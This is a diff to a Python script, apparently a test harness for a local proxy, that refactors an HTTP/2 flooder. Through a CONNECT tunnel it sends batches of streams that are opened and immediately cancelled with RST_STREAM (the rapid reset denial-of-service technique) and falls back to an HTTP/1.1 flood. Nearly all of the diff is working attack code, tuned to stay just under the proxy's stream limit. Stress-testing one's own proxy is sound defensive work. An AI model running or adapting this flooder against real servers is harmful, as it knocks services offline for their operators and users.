@@ -77,6 +77,21 @@ class Target:
         return base64.b64encode(f"{self.user}:{self.secret}".encode()).decode()
 
 
+def read_head(sock: socket.socket) -> bytes:
+    """What ``sock`` reads up to the end of an HTTP head (less if the peer closes first).
+
+    The tests import this from here: the flooder runs as a script of its own and
+    cannot import them.
+    """
+    head = b""
+    while b"\r\n\r\n" not in head:
+        data = sock.recv(4096)
+        if not data:
+            break
+        head += data
+    return head
+
+
 def connect(target: Target, stats: Stats, timeout: float = 2.0) -> socket.socket | None:
     """A CONNECT tunnel to ``target.host``:443, or None when the proxy refused it."""
     sock = socket.create_connection(("127.0.0.1", target.port), timeout=timeout)
@@ -85,12 +100,7 @@ def connect(target: Target, stats: Stats, timeout: float = 2.0) -> socket.socket
         f"CONNECT {target.host}:443 HTTP/1.1\r\nHost: {target.host}:443\r\n"
         f"Proxy-Authorization: Basic {target.auth}\r\n\r\n".encode()
     )
-    head = b""
-    while b"\r\n\r\n" not in head:
-        data = sock.recv(4096)
-        if not data:
-            break
-        head += data
+    head = read_head(sock)
     if head.split(b" ")[1:2] != [b"200"]:
         stats.add("connect_refused")
         sock.close()
@@ -124,86 +134,107 @@ def drain(sock: ssl.SSLSocket) -> bytes:
     return bytes(out)
 
 
-def h2_reset(target: Target, stats: Stats, until: float) -> None:
+def h2_open(
+    target: Target, stats: Stats, until: float
+) -> tuple[ssl.SSLSocket, h2.connection.H2Connection] | None:
+    """A tunnel speaking HTTP/2 as a client, its preface sent; None when the proxy
+    refused the CONNECT or chose HTTP/1.1 (then this worker floods HTTP/1.1 instead,
+    until ``until``)."""
     raw = connect(target, stats)
     if raw is None:
-        return
+        return None
     sock = tls(target, raw, "h2", "http/1.1")
     if sock.selected_alpn_protocol() != "h2":
         stats.add("h2_refused")
-        return h1_flood(sock, target, stats, until)
+        h1_flood(sock, target, stats, until)
+        return None
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    return sock, conn
+
+
+def flood_headers(target: Target) -> list[tuple[str, str]]:
+    return [
+        (":method", "GET"),
+        (":scheme", "https"),
+        (":authority", target.host),
+        (":path", "/flood"),
+    ]
+
+
+def h2_feed(sock: ssl.SSLSocket, conn: h2.connection.H2Connection) -> bool:
+    """Feed what the proxy sent to the state machine and answer it (settings, pings);
+    False once the proxy broke the protocol, ConnectionError on its GOAWAY."""
+    incoming = drain(sock)
+    if incoming:
+        try:
+            events = conn.receive_data(incoming)
+        except h2.exceptions.ProtocolError:
+            return False
+        if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
+            raise ConnectionError("GOAWAY from the proxy")
+        out = conn.data_to_send()
+        if out:
+            sock.sendall(out)
+    return True
+
+
+Headers = list[tuple[str, str]]
+
+
+def h2_flood(
+    target: Target,
+    stats: Stats,
+    until: float,
+    batch: Callable[[ssl.SSLSocket, h2.connection.H2Connection, Headers], int],
+) -> None:
+    """Send ``batch`` after ``batch`` of streams on one HTTP/2 tunnel until ``until``."""
+    opened = h2_open(target, stats, until)
+    if opened is None:
+        return
+    sock, conn = opened
+    headers = flood_headers(target)
     with sock:
-        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        conn.initiate_connection()
-        sock.sendall(conn.data_to_send())
-        headers = [
-            (":method", "GET"),
-            (":scheme", "https"),
-            (":authority", target.host),
-            (":path", "/flood"),
-        ]
         while time.monotonic() < until:
-            for _ in range(50):
-                sid = conn.get_next_available_stream_id()
-                conn.send_headers(sid, headers, end_stream=True)
-                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
-            sock.sendall(conn.data_to_send())
-            stats.add("streams", 50)
-            incoming = drain(sock)
-            if incoming:
-                try:
-                    events = conn.receive_data(incoming)
-                except h2.exceptions.ProtocolError:
-                    return
-                if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
-                    raise ConnectionError("GOAWAY from the proxy")
-                out = conn.data_to_send()
-                if out:
-                    sock.sendall(out)
+            stats.add("streams", batch(sock, conn, headers))
+            if not h2_feed(sock, conn):
+                return
+
+
+def reset_batch(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, headers: Headers) -> int:
+    """HEADERS and RST_STREAM(CANCEL) for 50 new streams, in one write."""
+    for _ in range(50):
+        sid = conn.get_next_available_stream_id()
+        conn.send_headers(sid, headers, end_stream=True)
+        conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
+    sock.sendall(conn.data_to_send())
+    return 50
+
+
+def open_then_reset_batch(
+    sock: ssl.SSLSocket, conn: h2.connection.H2Connection, headers: Headers
+) -> int:
+    """Rapid reset in two writes: the proxy sees each stream open before its reset."""
+    opened = []
+    for _ in range(90):  # under the proxy's 100 concurrent streams
+        sid = conn.get_next_available_stream_id()
+        conn.send_headers(sid, headers, end_stream=True)
+        opened.append(sid)
+    sock.sendall(conn.data_to_send())
+    for sid in opened:
+        if sid in conn.streams and not conn.streams[sid].closed:
+            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
+    sock.sendall(conn.data_to_send())
+    return len(opened)
+
+
+def h2_reset(target: Target, stats: Stats, until: float) -> None:
+    h2_flood(target, stats, until, reset_batch)
 
 
 def h2_streams(target: Target, stats: Stats, until: float) -> None:
-    """Rapid reset in two writes: the proxy sees each stream open before its reset."""
-    raw = connect(target, stats)
-    if raw is None:
-        return
-    sock = tls(target, raw, "h2", "http/1.1")
-    if sock.selected_alpn_protocol() != "h2":
-        stats.add("h2_refused")
-        return h1_flood(sock, target, stats, until)
-    with sock:
-        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        conn.initiate_connection()
-        sock.sendall(conn.data_to_send())
-        headers = [
-            (":method", "GET"),
-            (":scheme", "https"),
-            (":authority", target.host),
-            (":path", "/flood"),
-        ]
-        while time.monotonic() < until:
-            opened = []
-            for _ in range(90):  # under the proxy's 100 concurrent streams
-                sid = conn.get_next_available_stream_id()
-                conn.send_headers(sid, headers, end_stream=True)
-                opened.append(sid)
-            sock.sendall(conn.data_to_send())
-            for sid in opened:
-                if sid in conn.streams and not conn.streams[sid].closed:
-                    conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
-            sock.sendall(conn.data_to_send())
-            stats.add("streams", len(opened))
-            incoming = drain(sock)
-            if incoming:
-                try:
-                    events = conn.receive_data(incoming)
-                except h2.exceptions.ProtocolError:
-                    return
-                if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
-                    raise ConnectionError("GOAWAY from the proxy")
-                out = conn.data_to_send()
-                if out:
-                    sock.sendall(out)
+    h2_flood(target, stats, until, open_then_reset_batch)
 
 
 def h1_requests(target: Target, stats: Stats, until: float) -> None:
